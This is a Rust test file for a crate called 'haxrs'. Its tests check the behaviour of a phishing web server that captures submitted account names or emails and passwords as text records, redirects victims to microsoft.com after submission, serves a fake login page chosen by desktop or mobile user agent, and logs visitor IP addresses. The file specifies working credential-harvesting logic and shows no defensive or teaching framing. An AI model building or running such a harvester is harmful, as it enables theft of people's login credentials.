use haxrs::web::{
    handle_favicon, handle_index, handle_login, handle_other, index_page, ip_record, is_mobile,
    login_records, Config, LoginForm, RouteDecision,
};

#[test]
fn login_submission_appends_account_and_password_and_redirects() {
    let form = LoginForm {
        username: Some("foo".to_string()),
        email: None,
        password: "bar".to_string(),
    };
    let config = Config { redirect_url: "https://www.microsoft.com/".to_string() };
    let (records, response) = handle_login(&form, &config);
    assert_eq!(records.len(), 2);
    assert_eq!(records[0], "Account: foo");
    assert_eq!(records[1], "Password: bar");
    match response {
        RouteDecision::Redirect { location } => assert_eq!(location, "https://www.microsoft.com/"),
        _ => panic!("expected a redirect"),
    }
}

#[test]
fn login_submission_email_wins_when_username_absent() {
    let form = LoginForm {
        username: None,
        email: Some("foo@example.com".to_string()),
        password: "pw".to_string(),
    };
    let records = login_records(&form);
    assert_eq!(records.len(), 2);
    assert_eq!(records[0], "Account: foo@example.com");
    assert_eq!(records[1], "Password: pw");
}

#[test]
fn login_submission_username_wins_over_email() {
    let form = LoginForm {
        username: Some("name".to_string()),
        email: Some("mail@example.com".to_string()),
        password: "pw".to_string(),
    };
    let records = login_records(&form);
    assert_eq!(records.len(), 2);
    assert_eq!(records[0], "Account: name");
}

#[test]
fn login_submission_password_only() {
    let form = LoginForm { username: None, email: None, password: "pw".to_string() };
    let records = login_records(&form);
    assert_eq!(records.len(), 1);
    assert_eq!(records[0], "Password: pw");
}

#[test]
fn mobile_user_agent_selects_mobile_page_when_present() {
    let ua = "Mozilla/5.0 (Linux; Android 13) AppleWebKit/537.36";
    assert!(is_mobile(ua));
    assert_eq!(index_page(ua, true), "mobile.html");
}

#[test]
fn mobile_user_agent_falls_back_to_desktop_page() {
    let ua = "Mozilla/5.0 (Linux; Android 13) AppleWebKit/537.36";
    assert_eq!(index_page(ua, false), "login.html");
}

#[test]
fn desktop_user_agent_selects_desktop_page() {
    let ua = "Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/113.0";
    assert!(!is_mobile(ua));
    assert_eq!(index_page(ua, true), "login.html");
}

#[test]
fn iphone_and_generic_mobile_agents_detected() {
    assert!(is_mobile("Mozilla/5.0 (iPhone; CPU iPhone OS 16_0 like Mac OS X)"));
    assert!(is_mobile("Opera/9.80 Mobile"));
    assert!(!is_mobile("curl/8.0"));
}

#[test]
fn index_response_serves_variant_uncached() {
    match handle_index("something Android something", true) {
        RouteDecision::ServeNoStore { file_name } => assert_eq!(file_name, "mobile.html"),
        _ => panic!("expected an uncached page"),
    }
}

#[test]
fn visit_record_holds_ip_and_user_agent() {
    let line = ip_record("203.0.113.9", "curl/8.0");
    assert_eq!(line, "IP: 203.0.113.9\nUser-Agent: curl/8.0");
}

#[test]
fn favicon_served_or_not_found() {
    match handle_favicon("ico", true) {
        RouteDecision::ServeNoStore { file_name } => assert_eq!(file_name, "favicon.ico"),
        _ => panic!("expected the favicon"),
    }
    assert!(matches!(handle_favicon("png", false), RouteDecision::NotFound));
}

#[test]
fn other_paths_serve_or_redirect_home() {
    match handle_other("style.css", true) {
        RouteDecision::ServeStatic { file_name } => assert_eq!(file_name, "style.css"),
        _ => panic!("expected the static file"),
    }
    match handle_other("missing.css", false) {
        RouteDecision::Redirect { location } => assert_eq!(location, "/"),
        _ => panic!("expected a redirect home"),
    }
}
